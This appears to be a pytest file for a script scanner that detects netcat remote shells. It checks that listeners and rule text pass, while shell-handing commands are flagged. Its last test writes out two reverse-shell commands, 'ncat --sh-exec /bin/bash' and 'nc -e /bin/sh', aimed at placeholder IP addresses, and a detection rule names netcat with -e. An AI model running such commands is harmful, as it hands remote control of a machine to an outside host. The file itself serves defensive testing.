"""netcat connects only with a host and a port: a listener (``-l`` in any flag cluster) opens no
connection, and words of a sentence (``nc/ncat started with -e``) are no host and port."""

from __future__ import annotations

from pathlib import Path

from behaviour_files import scan_errors, scan_findings


def test_a_listener_in_any_flag_cluster_opens_no_connection(tmp_path: Path) -> None:
    script = "#!/bin/sh\nnc -vnlp 5555 > /tmp/recv.bin\nncat -kl 7000\n"
    assert not [f for f in scan_findings(tmp_path, {"scripts/recv.sh": script}) if f.rule == "REMOTE_SHELL"]


def test_prose_about_netcat_in_a_detection_rule_is_no_connection(tmp_path: Path) -> None:
    rules = (
        "- name: suspicious netcat\n"
        "  summary: ncat/nc spawned with -e or --sh-exec by a web server\n"
        "  match: process.name in (nc, ncat) and args contains '-e'\n"
    )
    assert not scan_errors(tmp_path, {"detections/netcat.yaml": rules})


def test_a_shell_handed_to_a_connection_is_still_an_error(tmp_path: Path) -> None:
    script = "#!/bin/sh\nncat --sh-exec /bin/bash 198.51.100.202 8443\nnc -nv -e /bin/sh 203.0.113.17 ssh\n"
    errors = scan_errors(tmp_path, {"scripts/link.sh": script})
    assert ("REMOTE_SHELL", "scripts/link.sh", 2) in errors
    assert ("REMOTE_SHELL", "scripts/link.sh", 3) in errors
